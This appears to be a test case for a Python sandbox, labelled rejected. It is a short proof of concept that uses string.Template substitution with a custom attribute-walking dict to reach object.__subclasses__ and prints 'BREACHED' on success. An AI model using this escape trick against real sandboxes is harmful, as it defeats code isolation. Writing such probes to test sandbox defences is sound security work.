# fence: rejected | walls: -
import string
class Walk(string.Template):
    idpattern = r"[a-z_.]+"
class Attributes(dict):
    def __missing__(self, path):
        found = ()
        for name in path.split("."):
            found = getattr(found, name)
        return found
text = Walk("${__class__.__base__.__subclasses__}").substitute(Attributes())
print("BREACHED" if "built-in" in text else text)
